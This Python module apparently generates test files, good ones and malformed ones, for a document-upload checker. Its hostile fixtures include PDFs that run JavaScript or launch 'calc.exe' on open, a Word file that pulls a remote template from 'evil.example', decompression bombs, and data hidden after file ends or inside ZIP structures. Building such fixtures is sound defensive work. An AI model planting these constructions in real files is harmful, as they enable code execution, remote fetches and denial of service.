"""Pictures and documents for tests, made on the spot: good ones, and each way in which a file can be bad.

Personal numbers have right check digits and birth years before 1910: they are nobody's.
"""

from __future__ import annotations

import io
import json
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from PIL import Image, ImageDraw
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

from generator.bags.bag import entry_of, tag_files

IDENTITY = "110101190503070015"
TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/{part}" ContentType="application/vnd.{type}+xml"/></Types>'
)
WORD = "openxmlformats-officedocument.wordprocessingml.document.main"
SHEET = "openxmlformats-officedocument.spreadsheetml.sheet.main"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def drawing(width: int = 40, height: int = 30) -> Image.Image:
    """Red above blue: which way up can be told from its pixels."""
    image = Image.new("RGB", (width, height), "red")
    ImageDraw.Draw(image).rectangle((0, height // 2, width, height), fill="blue")
    return image


def saved(image: Image.Image, form: str, **options: object) -> bytes:
    """An image as a file."""
    stream = io.BytesIO()
    image.save(stream, form, **options)
    return stream.getvalue()


def jpeg() -> bytes:
    return saved(drawing(), "JPEG")


def png() -> bytes:
    return saved(drawing(), "PNG")


def webp() -> bytes:
    return saved(drawing(), "WEBP")


def tagged(orientation: int = 6) -> bytes:
    """A photo as a phone writes it: lying on its side, with place, device, a remark, and an older picture behind."""
    exif = located()
    exif[0x0112] = orientation
    exif[0x010F] = "Hong Camera"
    data = saved(drawing(), "JPEG", exif=exif, comment=b"remark of Hong", icc_profile=b"no profile at all")
    return data + b"HIDDEN-TAIL" + jpeg()


def located() -> Image.Exif:
    """What a camera writes of the place."""
    exif = Image.Exif()
    exif[0x0112] = 1
    place = exif.get_ifd(0x8825)
    place |= {1: "N", 2: (39.0, 54.0, 15.0), 3: "E", 4: (116.0, 23.0, 29.0)}
    return exif


def described(text: str) -> Image.Exif:
    """What somebody has written into a picture."""
    exif = Image.Exif()
    exif[0x010E] = text
    return exif


PACKET = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf exif:GPSLatitude="39,54.25N"/></x:xmpmeta>'
"""A place as XMP."""


def claiming(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it is so large."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def heic() -> bytes:
    return b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64)


def pdf(*pages: str, change: Callable[[PdfWriter], object] = id) -> bytes:
    """A PDF of one font with a line of Latin text a page."""
    writer = PdfWriter()
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    for text in pages or ("Certificate of the contest",):
        page = writer.add_blank_page(300, 200)
        stream = StreamObject()
        stream.set_data(f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET".encode() if text else b"")
        page[NameObject("/Contents")] = writer._add_object(stream)
        fonts = DictionaryObject({NameObject("/F1"): font})
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def pdf_bomb(layers: int = 1, *, picture: bool = False, megabytes: int = 300) -> bytes:
    """A PDF with a stream that no page shows and that becomes that many megabytes."""

    def change(writer: PdfWriter) -> None:
        packer = zlib.compressobj(9)
        data = b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()
        for _ in range(layers - 1):
            data = zlib.compress(data, 9)
        stream = StreamObject()
        stream._data = data
        names = [NameObject("/FlateDecode")] * layers
        stream[NameObject("/Filter")] = names[0] if layers == 1 else ArrayObject(names)
        if picture:
            stream[NameObject("/Subtype")] = NameObject("/Image")
        writer.root_object[NameObject("/PieceInfo")] = writer._add_object(stream)

    return pdf(change=change)


def _action(**values: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject(f"/{key}"): NameObject(value) if value.startswith("/") else TextStringObject(value)
            for key, value in values.items()
        }
    )


def _opening(writer: PdfWriter, action: DictionaryObject) -> None:
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)


def scripted_pdf() -> bytes:
    return pdf(change=lambda writer: _opening(writer, _action(S="/JavaScript", JS="app.alert(1)")))


def launching_pdf() -> bytes:
    return pdf(change=lambda writer: _opening(writer, _action(S="/Launch", F="calc.exe")))


def jumping_pdf() -> bytes:
    """It opens at a page, as most word processors ask: nothing runs."""

    def change(writer: PdfWriter) -> None:
        there = ArrayObject([writer.pages[0].indirect_reference, NameObject("/FitH"), NumberObject(200)])
        writer.root_object[NameObject("/OpenAction")] = there

    return pdf(change=change)


def carrying_pdf() -> bytes:
    return pdf(change=lambda writer: writer.add_attachment("list.csv", b"name,number"))


def form_pdf() -> bytes:
    def change(writer: PdfWriter) -> None:
        form = DictionaryObject({NameObject("/XFA"): ArrayObject([TextStringObject("template")])})
        writer.root_object[NameObject("/AcroForm")] = writer._add_object(form)

    return pdf(change=change)


def locked_pdf() -> bytes:
    return pdf(change=lambda writer: writer.encrypt("secret", algorithm="RC4-128"))


def remarked_pdf() -> bytes:
    """The number does not stand on the page but in a remark beside it."""

    def change(writer: PdfWriter) -> None:
        remark = DictionaryObject(
            {
                NameObject("/Subtype"): NameObject("/Text"),
                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
                NameObject("/Contents"): TextStringObject(IDENTITY),
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(remark)])

    return pdf(change=change)


def indirect_pdf() -> bytes:
    """A remark whose text is an object of its own."""

    def change(writer: PdfWriter) -> None:
        remark = DictionaryObject({NameObject("/Subtype"): NameObject("/Text")})
        remark[NameObject("/Contents")] = writer._add_object(TextStringObject(IDENTITY))
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(remark)])

    return pdf(change=change)


def edited_pdf() -> bytes:
    """A document whose number was deleted by a later state of it: both lie in the file."""
    before = pdf(f"ID {IDENTITY}")
    number = re.search(rb"(\d+) 0 obj\s*<<\s*/Length", before)
    assert number is not None
    table = re.findall(rb"startxref\s+(\d+)", before)[-1]
    size = re.findall(rb"/Size (\d+)", before)[-1]
    root = re.findall(rb"/Root (\d+ 0 R)", before)[-1]
    body = number[1] + b" 0 obj\n<< /Length 0 >>\nstream\n\nendstream\nendobj\n"
    cross = b"xref\n%s 1\n%010d 00000 n \n" % (number[1], len(before))
    trailer = b"trailer\n<< /Size %s /Root %s /Prev %s >>\nstartxref\n%d\n%%%%EOF\n"
    return before + body + cross + trailer % (size, root, table, len(before) + len(body))


def commented(data: bytes, text: str) -> bytes:
    """An archive with a remark of its own at its end."""
    stream = io.BytesIO(data)
    with zipfile.ZipFile(stream, "a") as file:
        file.comment = text.encode()
    return stream.getvalue()


def between(data: bytes) -> bytes:
    """An archive with something between its parts and the list of them, which no reader of archives sees."""
    hidden = b"nobody sees this, but it is there"
    start = data.index(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    moved = data[:start] + hidden + data[start:end]
    return moved + data[end : end + 16] + struct.pack("<I", start + len(hidden)) + data[end + 20 :]


def archive(parts: Mapping[str, str | bytes]) -> bytes:
    """A ZIP of these parts, the same bytes every time."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def docx(*runs: str, parts: Mapping[str, str | bytes] | None = None, kind: str = WORD) -> bytes:
    """A Word document of one paragraph in these pieces."""
    said = "".join(f"<w:r><w:rPr/><w:t>{run}</w:t></w:r>" for run in runs or ("立项通知",))
    return archive(
        {
            "[Content_Types].xml": TYPES.format(part="word/document.xml", type=kind),
            "word/document.xml": f"<w:document {W}><w:body><w:p>{said}</w:p></w:body></w:document>",
            **(parts or {}),
        }
    )


def xlsx(
    cells: Mapping[str, str] | None = None,
    shared: Mapping[str, str] | None = None,
    parts: Mapping[str, str | bytes] | None = None,
) -> bytes:
    """A table with values that stand in their cells, and such as stand in the list that cells point at."""
    shared = shared if shared is not None else {"A1": "名称"}
    said = [f'<c r="{at}"><v>{value}</v></c>' for at, value in (cells or {}).items()]
    said += [f'<c r="{at}" t="s"><v>{number}</v></c>' for number, at in enumerate(shared)]
    strings = "".join(f"<si><r><t>{text[:5]}</t></r><r><t>{text[5:]}</t></r></si>" for text in shared.values())
    return archive(
        {
            "[Content_Types].xml": TYPES.format(part="xl/workbook.xml", type=SHEET),
            "xl/sharedStrings.xml": f"<sst {S}>{strings}</sst>",
            "xl/worksheets/sheet1.xml": f"<worksheet {S}><sheetData><row>{''.join(said)}</row></sheetData></worksheet>",
            **(parts or {}),
        }
    )


def linked_docx() -> bytes:
    relation = (
        f'<Relationship Id="r1" Type="{RELATION}/attachedTemplate" Target="https://evil.example/t.dotm"'
        ' TargetMode="External"/>'
    )
    return docx(parts={"word/_rels/settings.xml.rels": f"<Relationships>{relation}</Relationships>"})


def bomb() -> bytes:
    """A small archive that unpacks to a hundred times what a worker may have."""
    return docx(parts={"word/media.xml": b"<a>" + b" " * (60 << 20) + b"</a>"})


CANARY = "canary7q"


def marked() -> bytes:
    """A photo with a mark wherever a photo can hold one beside its pixels."""
    packet = f"<x:xmpmeta><dc:creator>{CANARY}</dc:creator></x:xmpmeta>".encode()
    said = {"exif": described(CANARY), "comment": CANARY.encode(), "xmp": packet, "icc_profile": CANARY.encode() * 20}
    return saved(drawing(), "JPEG", **said) + CANARY.encode() + jpeg()


def marked_png() -> bytes:
    """The same as a PNG, in texts of its own, packed and not, and behind its end."""
    texts = PngInfo()
    texts.add_text("Author", CANARY)
    texts.add_text("Comment", CANARY, zip=True)
    texts.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{CANARY}</x:xmpmeta>", zip=True)
    return saved(drawing(), "PNG", pnginfo=texts, exif=described(CANARY)) + CANARY.encode()


def marked_pdf() -> bytes:
    """A document with a mark on its page and in its description."""
    return pdf(CANARY, change=lambda writer: writer.add_metadata({"/Author": CANARY, "/Keywords": CANARY}))


def located_pdf() -> bytes:
    """A photo with its place in a document, as it came from the phone."""

    def change(writer: PdfWriter) -> None:
        image = StreamObject()
        image._data = tagged()
        image |= {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Filter"): NameObject("/DCTDecode"),
        }
        resources = writer.pages[0]["/Resources"]
        assert isinstance(resources, DictionaryObject)
        resources[NameObject("/XObject")] = DictionaryObject({NameObject("/P"): writer._add_object(image)})

    return pdf(change=change)


def snapshot(scope: str = "public", version: int = 1, pages: tuple[str, ...] = ("index.html",)) -> bytes:
    """A year of few pages, as a zip."""
    said = {"year": 2025, "version": version, "scope": scope, "as_of": "2026-01-20", "commit": "c0" * 20}
    said |= {"generator": "Jiangpu", "counts": {}, "log": None}
    page = "<html><head></head><body>那时</body></html>"
    payload = {"snapshot.json": json.dumps(said).encode(), **{f"site/{name}": page.encode() for name in pages}}
    tags = tag_files({path: entry_of(data) for path, data in payload.items()}, (), {})
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for path, data in {**{f"data/{path}": data for path, data in payload.items()}, **tags}.items():
            archive.writestr(zipfile.ZipInfo(f"jiangpu-2025-v{version}/{path}"), data)
    return packed.getvalue()


MADE: Mapping[str, Callable[[], bytes]] = {
    "snapshot": snapshot,
    "snapshot_with_cup": lambda: snapshot(pages=("achievements/hong/cup.html", "index.html")),
    "second_snapshot": lambda: snapshot(version=2),
    "internal_snapshot": lambda: snapshot("internal"),
    "jpeg": jpeg,
    "png": png,
    "webp": webp,
    "tagged": tagged,
    "huge_png": lambda: claiming(60_000, 60_000),
    "tall_png": lambda: claiming(1_600, 12_000),
    "heic": heic,
    "old_office": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
    "noise": lambda: b"GIF89a" + bytes(50),
    "cut_jpeg": lambda: jpeg()[:300],
    "pdf": pdf,
    "scan": lambda: pdf("", ""),
    "scripted_pdf": scripted_pdf,
    "launching_pdf": launching_pdf,
    "jumping_pdf": jumping_pdf,
    "carrying_pdf": carrying_pdf,
    "form_pdf": form_pdf,
    "locked_pdf": locked_pdf,
    "identity_pdf": lambda: pdf("Nothing here", f"ID {IDENTITY}", "Nothing", IDENTITY),
    "remarked_pdf": remarked_pdf,
    "docx": docx,
    "macro_docx": lambda: docx(parts={"word/vbaProject.bin": b"macro"}),
    "docm": lambda: docx(kind="ms-word.document.macroEnabled.main"),
    "carrying_docx": lambda: docx(parts={"word/embeddings/book.xlsx": b"PK"}),
    "linked_docx": linked_docx,
    "bomb": bomb,
    "identity_docx": lambda: docx("身份证号1101", "0119050307", "0015"),
    "marked": marked,
    "marked_png": marked_png,
    "marked_pdf": marked_pdf,
    "naming_docx": lambda: docx("本次比赛由何 小苗", "参加"),
    "located_pdf": located_pdf,
    "xlsx": xlsx,
    "pupils_xlsx": lambda: xlsx(shared={"A1": "学生", "B1": "班级", "C1": "期末成绩", "A2": "周同学"}),
    "identity_xlsx": lambda: xlsx(shared={"A1": "名称", "C5": IDENTITY}),
}
"""By the names that golden cases know them by."""
